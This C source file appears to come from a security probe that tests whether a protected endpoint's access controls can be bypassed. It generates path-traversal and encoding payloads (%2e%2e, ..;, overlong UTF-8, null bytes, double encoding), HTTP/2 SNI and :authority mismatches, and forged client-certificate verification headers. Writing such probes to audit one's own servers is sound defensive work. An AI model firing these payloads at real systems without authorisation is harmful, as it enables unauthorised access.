/* SPDX-License-Identifier: Apache-2.0 */
#include "probe/attack_table.h"

/* --- one path written in other ways --- */

static void try_target(struct attack_run *run, const char *how, struct str target, bool h2)
{
    const struct attempt attempt = {
        .what = arena_printf(run->arena, "%s: %.*s", how, STR_ARG(target)).p,
        .target = target,
        .h2 = h2,
    };
    (void)attack_try(run, &attempt);
}

/* Every byte from `from` on as %XX. */
static struct str encode_all(struct arena *arena, struct str path, size_t from)
{
    static const char HEX[] = "0123456789abcdef";
    char *out = arena_bytes(arena, 3 * path.n + 1);
    size_t n = 0;
    for (size_t i = 0; i < path.n; i++) {
        unsigned char c = (unsigned char)path.p[i];
        if (i < from) {
            out[n++] = (char)c;
            continue;
        }
        out[n++] = '%';
        out[n++] = HEX[c >> 4];
        out[n++] = HEX[c & 15];
    }
    return (struct str){out, n};
}

static struct str change_case(struct arena *arena, struct str path)
{
    char *out = arena_cstr(arena, path);
    for (size_t i = 1; i < path.n; i += 2) {
        char lower = char_lower(out[i]);
        out[i] = lower != out[i]                ? lower
                 : lower >= 'a' && lower <= 'z' ? (char)(lower - 0x20)
                                                : lower;
    }
    return (struct str){out, path.n};
}

/* `with` in place of each slash but the first. */
static struct str replace_slashes(struct arena *arena, struct str path, struct str with)
{
    char *out = arena_bytes(arena, path.n * with.n + 1);
    char *end = out;
    for (size_t i = 0; i < path.n; i++) {
        struct str part = i && path.p[i] == '/' ? with : (struct str){path.p + i, 1};
        end = str_put(end, part);
    }
    return str_range(out, end);
}

static void try_before(struct attack_run *run, bool h2)
{
    static const char *const BEFORE[] = {
        "/",      "/.",  "/x/..", "/%2e", "/x/%2e%2e", "/x/..%2f.", "/;x",         "/%00",
        "/x/..;", "/\\", "/%5c",  "/..",  "/%2e%2e",   "/..%2f",    "/%252e%252e", "/%c0%ae%c0%ae"};
    for (size_t i = 0; i < COUNT_OF(BEFORE); i++) {
        try_target(run, "before the path",
                   arena_concat(run->arena, str_of(BEFORE[i]), run->door->path), h2);
    }
}

static void try_behind(struct attack_run *run, bool h2)
{
    static const char *const BEHIND[] = {
        "%00",    "%00.html", ";x",     ";.css", "/.",    "/..", "/../x", "//",    "?x",    "?",
        "#x",     "%23",      "%3f",    ".php",  ".css",  ".js", ".png",  ".html", ".json", ".txt",
        "/x.php", "/x.css",   "/x.png", "/x.js", "/.git", "%20", "%09",   "~",     ".",     "%2f"};
    for (size_t i = 0; i < COUNT_OF(BEHIND); i++) {
        try_target(run, "behind the path",
                   arena_concat(run->arena, run->door->path, str_of(BEHIND[i])), h2);
    }
}

/* From a prefix that is open to every client into the door. */
static void try_from_open(struct attack_run *run, bool h2)
{
    static const char *const UP[] = {"/..",   "/%2e%2e", "/..%2f..", "/%2e%2e%2f%2e%2e",
                                     "//..",  "/./..",   "/..;",     "%2f..",
                                     "/.%2e", "/%2e.",   "/..%5c..", "/x/../.."};
    struct str open = attack_open_path(run);
    for (size_t i = 0; open.n && i < COUNT_OF(UP); i++) {
        const struct str parts[] = {open, str_of(UP[i]), run->door->path};
        try_target(run, "from an open path", arena_join(run->arena, parts, 3, STR("")), h2);
        const struct str twice[] = {open, str_of(UP[i]), str_of(UP[i]), run->door->path};
        try_target(run, "from an open path", arena_join(run->arena, twice, 4, STR("")), h2);
    }
}

static void try_all_paths(struct attack_run *run, bool h2)
{
    struct str path = run->door->path;
    struct arena *arena = run->arena;
    try_target(run, "all encoded", encode_all(arena, path, 1), h2);
    try_target(run, "all encoded, slash included", encode_all(arena, path, 0), h2);
    try_target(run, "encoded twice", replace_slashes(arena, encode_all(arena, path, 1), STR("%25")),
               h2);
    try_target(run, "another case", change_case(arena, path), h2);
    try_target(run, "encoded slashes", replace_slashes(arena, path, STR("%2f")), h2);
    try_target(run, "doubled slashes", replace_slashes(arena, path, STR("//")), h2);
    try_target(run, "dots between", replace_slashes(arena, path, STR("/./")), h2);
    try_target(run, "parameters between", replace_slashes(arena, path, STR(";x/")), h2);
    try_target(run, "backslashes", replace_slashes(arena, path, STR("\\")), h2);
    try_before(run, h2);
    try_behind(run, h2);
    try_from_open(run, h2);
}

void attack_paths(struct attack_run *run)
{
    try_all_paths(run, false);
}

/* --- HTTP/2 --- */

static void try_h2_names(struct attack_run *run)
{
    size_t n;
    struct other_name *others = attack_other_names(run, &n);
    for (size_t i = 0; i < n; i++) {
        struct attempt attempt = {.h2 = true, .sni = others[i].name};
        attempt.what =
            arena_printf(run->arena, "SNI of %.*s, :authority of the door", STR_ARG(others[i].name))
                .p;
        (void)attack_try(run, &attempt);
        attempt.first_host = others[i].name;
        attempt.what = arena_printf(run->arena, "a connection of %.*s, shared with the door",
                                    STR_ARG(others[i].name))
                           .p;
        (void)attack_try(run, &attempt);
        attempt.first_host = STR("");
        attempt.host = others[i].name;
        attempt.means_host = run->door->host;
        attempt.fields = arena_printf(run->arena, "host: %.*s\r\n", STR_ARG(run->door->host));
        attempt.what = arena_printf(run->arena, ":authority of %.*s, host of the door",
                                    STR_ARG(others[i].name))
                           .p;
        (void)attack_try(run, &attempt);
    }
}

void attack_h2(struct attack_run *run)
{
    struct attempt attempt = {.what = "no certificate", .h2 = true};
    size_t before = run->out->tried;
    (void)attack_try(run, &attempt);
    if (run->out->tried == before) {
        return; /* the server does not speak HTTP/2 */
    }
    attempt.what = "no :authority";
    attempt.no_host = true;
    attempt.means_host = run->door->host;
    (void)attack_try(run, &attempt);
    attempt.what = "host in place of :authority";
    attempt.fields = arena_printf(run->arena, "host: %.*s\r\n", STR_ARG(run->door->host));
    (void)attack_try(run, &attempt);
    const struct attempt forged = {.what = "forged identity headers",
                                   .h2 = true,
                                   .fields = STR("x-ssl-client-verify: SUCCESS\r\n"
                                                 "ssl_client_verify: SUCCESS\r\n"
                                                 "x-client-verify: SUCCESS\r\n")};
    (void)attack_try(run, &forged);
    const struct attempt post = {.what = "POST", .h2 = true, .method = STR("POST")};
    (void)attack_try(run, &post);
    try_h2_names(run);
    try_all_paths(run, true);
}
